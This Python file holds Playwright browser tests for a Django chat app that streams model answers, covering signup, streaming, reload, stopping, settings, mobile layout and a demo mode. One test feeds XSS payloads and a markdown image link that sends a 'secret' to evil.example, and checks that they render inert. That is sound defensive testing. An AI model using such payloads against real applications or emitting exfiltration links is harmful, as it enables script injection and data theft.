"""Browser tests: Playwright driving Debian's Chromium against the real app (Uvicorn, the real
ASGI application, the real adapters) and the fake upstream.

Synchronisation is by events only: the fake holds a stream at a `Gate` until the test
releases it, and Playwright's `expect` waits for the page to reach a state.
"""

from __future__ import annotations

import os
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
import uvicorn
from django.contrib.auth import get_user_model

from tests.fakes.upstream import Gate, Reply, Text, chunks

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-quic",
    "--no-first-run",
]
PASSWORD = "Browser-Test-Pw-1!"
# Markdown-neutral (renders as one paragraph with the same text), but full of characters that
# break naive streaming: HTML, entities, multi-byte letters, an emoji outside the BMP.
ANSWER = "Streaming check: 1 < 2 && 3 > 2, <b>not bold</b>, a & b, café ünïcode 🚀 and the end."

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

try:
    from playwright.sync_api import Browser, Page, expect, sync_playwright
except ImportError:  # pragma: no cover - the dev dependencies include Playwright
    sync_playwright = None


@pytest.fixture(scope="module", autouse=True)
def _orm_beside_playwright() -> Iterator[None]:
    """Playwright's sync API keeps an event loop marked as running in this thread, so Django
    refuses ORM calls here (the test's own setup, pytest-django's flush). Django's documented
    escape hatch, for this module only: every other module runs with the check on, and the
    app's async paths are the same ones those modules exercise."""
    previous = os.environ.get("DJANGO_ALLOW_ASYNC_UNSAFE")
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "true"
    yield
    if previous is None:
        del os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"]
    else:
        os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = previous


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists() or sync_playwright is None:
        message = "Debian's chromium is not installed (apt-get install chromium)"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True
        )
        yield browser
        browser.close()


@pytest.fixture
def live_url(transactional_db, aimlapi, settings) -> Iterator[str]:
    """The app served by Uvicorn on a loopback port, in a thread of this process (so it shares
    the test database and the settings the test chose)."""
    from chatapp.asgi import application

    settings.SSE_HEARTBEAT_SECONDS = 2.0
    sock = socket.socket()
    sock.bind(("127.0.0.1", 0))
    port = sock.getsockname()[1]
    server = uvicorn.Server(
        uvicorn.Config(application, lifespan="on", log_level="warning", timeout_graceful_shutdown=2)
    )
    started = threading.Event()

    def serve() -> None:
        import asyncio

        async def main() -> None:
            task = asyncio.create_task(server.serve(sockets=[sock]))
            # Uvicorn exposes readiness only as a flag.
            while not server.started and not task.done():  # noqa: ASYNC110
                await asyncio.sleep(0.01)
            started.set()
            await task

        asyncio.run(main())

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    assert started.wait(10), "uvicorn did not start"
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    aimlapi.release_all()
    thread.join(10)


@pytest.fixture
def page(browser: Browser, live_url: str) -> Iterator[Page]:
    context = browser.new_context(base_url=live_url)
    page = context.new_page()
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    yield page
    context.close()
    assert dialogs == [], f"a dialog opened (script ran?): {dialogs}"
    assert errors == [], f"JavaScript errors: {errors}"


def log_in(page: Page, username: str = "alice") -> None:
    get_user_model().objects.create_user(username=username, password=PASSWORD)
    page.goto("/accounts/login/")
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()


def send(page: Page, text: str) -> None:
    box = page.get_by_role("textbox", name="Message")
    box.fill(text)
    box.press("Enter")


def answer(page: Page):
    return page.locator("article.msg-assistant").last


def test_sign_up_send_and_watch_the_answer_stream(page, aimlapi):
    page.goto("/accounts/signup/")
    page.get_by_label("Username").fill("newcomer")
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.get_by_label("Password confirmation").fill(PASSWORD)
    page.get_by_role("button", name="Create account").click()
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()

    aimlapi.enqueue(Reply([Gate("start"), *chunks(ANSWER, size=3), Gate("end")]))
    send(page, "Stream something")
    expect(page.locator("article.msg-user")).to_have_text("Stream something")
    expect(page.get_by_role("button", name="Stop")).to_be_enabled()
    expect(page.get_by_role("textbox", name="Message")).to_be_disabled()
    aimlapi.wait_for_gate("start")
    expect(answer(page).locator(".msg-status")).to_have_text("Thinking…")
    aimlapi.release("start")
    aimlapi.wait_for_gate("end")
    # Every streamed piece arrived, escaped, exactly once, before the final HTML replaces it.
    expect(answer(page).locator(".msg-stream")).to_have_text(ANSWER)
    assert answer(page).locator(".msg-stream b").count() == 0
    aimlapi.release("end")

    expect(answer(page).locator(".msg-body")).to_have_text(ANSWER)
    expect(answer(page).locator(".msg-meta")).to_contain_text("first token")
    expect(page.get_by_role("textbox", name="Message")).to_be_enabled()
    expect(page.get_by_role("button", name="Stop")).to_be_disabled()
    assert page.url.endswith(f"/c/{page.url.rstrip('/').rsplit('/', 1)[1]}/")
    expect(page.locator(".conversations a[aria-current=page]")).to_have_text("Stream something")


def test_reload_mid_answer_then_a_second_tab_then_come_back(page, aimlapi, browser):
    log_in(page)
    first, second = ANSWER[:40], ANSWER[40:]
    aimlapi.enqueue(
        Reply([*chunks(first, size=4), Gate("mid"), *chunks(second, size=4), Gate("end")])
    )
    send(page, "Reload me")
    aimlapi.wait_for_gate("mid")
    expect(answer(page).locator(".msg-stream")).to_have_text(first)

    page.reload()
    expect(answer(page).locator(".msg-stream")).to_have_text(first)
    other = page.context.new_page()
    other.goto(page.url)
    expect(answer(other).locator(".msg-stream")).to_have_text(first)
    aimlapi.release("mid")
    aimlapi.wait_for_gate("end")
    expect(answer(page).locator(".msg-stream")).to_have_text(ANSWER)
    expect(answer(other).locator(".msg-stream")).to_have_text(ANSWER)
    aimlapi.release("end")
    expect(answer(page).locator(".msg-body")).to_have_text(ANSWER)
    expect(answer(other).locator(".msg-body")).to_have_text(ANSWER)
    url = page.url
    page.close()
    other.close()

    later = browser.new_context(base_url=url.split("/c/")[0])
    returning = later.new_page()
    returning.goto("/accounts/login/")
    returning.get_by_label("Username").fill("alice")
    returning.get_by_label("Password").fill(PASSWORD)
    returning.get_by_role("button", name="Log in").click()
    returning.get_by_role("link", name="Reload me").click()
    expect(answer(returning).locator(".msg-body")).to_have_text(ANSWER)
    expect(returning.locator("article.msg-user")).to_have_text("Reload me")
    later.close()


def test_stop_keeps_the_partial_answer_and_closes_the_upstream(page, aimlapi):
    log_in(page)
    aimlapi.enqueue(Reply([Text("Partial "), Text("answer"), Gate("never"), Text(" never shown")]))
    send(page, "Start and stop")
    aimlapi.wait_for_gate("never")
    expect(answer(page).locator(".msg-stream")).to_have_text("Partial answer")
    page.get_by_role("button", name="Stop").click()

    expect(answer(page).locator(".msg-note")).to_have_text("Stopped.")
    expect(answer(page).locator(".msg-body")).to_have_text("Partial answer")
    expect(answer(page).get_by_role("button", name="Retry")).to_be_visible()
    expect(page.get_by_role("textbox", name="Message")).to_be_enabled()
    assert aimlapi.wait_closed(0).client_disconnected


def test_settings_arrive_in_the_request_exactly(page, aimlapi):
    log_in(page)
    page.get_by_text("Settings", exact=True).click()
    page.get_by_label("Model").select_option("aimlapi:google/gemini-2.5-pro")
    page.get_by_label("System prompt").fill("Answer in one word.")
    page.get_by_label("Temperature").fill("0.42")
    page.get_by_label("Top P").fill("0.9")
    page.get_by_label("Max tokens").fill("321")
    page.get_by_label("Stop sequences").fill("END\nSTOP HERE")
    page.get_by_label("Seed").fill("42")
    page.get_by_label("Presence penalty").fill("3")
    expect(page.locator("#err-presence_penalty")).to_contain_text("Presence penalty must be -2–2")
    page.get_by_label("Presence penalty").fill("")
    aimlapi.enqueue(Reply([Text("Done.")]))
    send(page, "Settings check")
    expect(answer(page).locator(".msg-body")).to_have_text("Done.")

    body = aimlapi.requests[0].json
    assert body["model"] == "google/gemini-2.5-pro"
    assert body["messages"][0] == {"role": "system", "content": "Answer in one word."}
    assert body["temperature"] == 0.42
    assert body["top_p"] == 0.9
    assert body["max_tokens"] == 321
    assert body["seed"] == 42
    assert body["stop"] == ["END", "STOP HERE"]
    for absent in ("presence_penalty", "frequency_penalty", "max_completion_tokens"):
        assert absent not in body  # empty fields are not sent

    # The settings belong to the conversation: after a reload they are still there.
    page.reload()
    page.get_by_text("Settings", exact=True).click()
    expect(page.get_by_label("Temperature")).to_have_value("0.42")
    page.get_by_label("Temperature").fill("5")
    page.get_by_label("Temperature").press("Tab")
    expect(page.locator("#err-temperature")).to_contain_text("Temperature must be 0–2")
    expect(page.locator("#settings-status")).to_contain_text("Not saved")


def test_hostile_text_stays_inert(page, aimlapi):
    log_in(page)
    aimlapi.enqueue(
        Reply(
            [
                Text("<script>alert('model')</script> "),
                Text("<img src=x onerror=alert('img')> "),
                Text("[click](javascript:alert('link')) ![exfil](https://evil.example/?q=secret)"),
            ]
        )
    )
    send(page, "<img src=x onerror=alert('user')>")
    expect(page.locator("article.msg-user")).to_have_text("<img src=x onerror=alert('user')>")
    body = answer(page).locator(".msg-body")
    expect(body).to_contain_text("<script>alert('model')</script>")
    assert body.locator("img, script").count() == 0
    assert body.locator("a[href^='javascript']").count() == 0
    assert page.locator("img").count() == 0  # no external image is ever loaded


def test_shift_enter_adds_a_line_and_enter_sends(page, aimlapi):
    log_in(page)
    aimlapi.enqueue(Reply([Text("Two lines received.")]))
    box = page.get_by_role("textbox", name="Message")
    box.fill("line one")
    box.press("Shift+Enter")
    box.type("line two")
    expect(box).to_have_value("line one\nline two")
    box.press("Enter")
    expect(page.locator("article.msg-user")).to_have_text("line one\nline two")
    expect(answer(page).locator(".msg-body")).to_have_text("Two lines received.")
    assert aimlapi.requests[0].json["messages"][-1]["content"] == "line one\nline two"


def test_usable_at_360_px(browser, live_url, aimlapi):
    context = browser.new_context(base_url=live_url, viewport={"width": 360, "height": 740})
    page = context.new_page()
    log_in(page, "narrow")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    expect(page.get_by_role("button", name="Menu", exact=True)).to_be_visible()
    expect(page.get_by_role("link", name="New chat")).not_to_be_in_viewport()
    page.get_by_role("button", name="Menu", exact=True).click()
    expect(page.get_by_role("link", name="New chat")).to_be_in_viewport()
    page.get_by_role("button", name="Close menu").click()
    expect(page.get_by_role("link", name="New chat")).not_to_be_in_viewport()
    page.get_by_role("button", name="Menu", exact=True).click()
    page.keyboard.press("Escape")
    expect(page.get_by_role("link", name="New chat")).not_to_be_in_viewport()
    aimlapi.enqueue(Reply([Text("Fits on a phone.")]))
    send(page, "Small screen")
    expect(answer(page).locator(".msg-body")).to_have_text("Fits on a phone.")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    context.close()


def test_offline_demo_is_labelled_and_answers(page, settings):
    settings.PROVIDERS = {
        "demo": {
            "BACKEND": "chatapp.providers.demo.DemoProvider",
            "OPTIONS": {"first_token_delay": 0.05, "token_delay": 0.001},
        }
    }
    log_in(page)
    expect(page.get_by_role("note")).to_contain_text("Offline demo")
    page.get_by_text("Settings", exact=True).click()
    expect(page.get_by_label("Model").locator("optgroup")).to_have_attribute(
        "label", "Offline demo"
    )
    send(page, "Hello demo")
    expect(answer(page).locator(".msg-body")).to_contain_text("Offline demo")
    expect(answer(page).locator(".msg-meta")).to_contain_text("Offline demo")
    expect(answer(page).locator("button.copy")).to_have_text("Copy")
    assert re.search(r"Hello demo", answer(page).locator(".msg-body").inner_text())
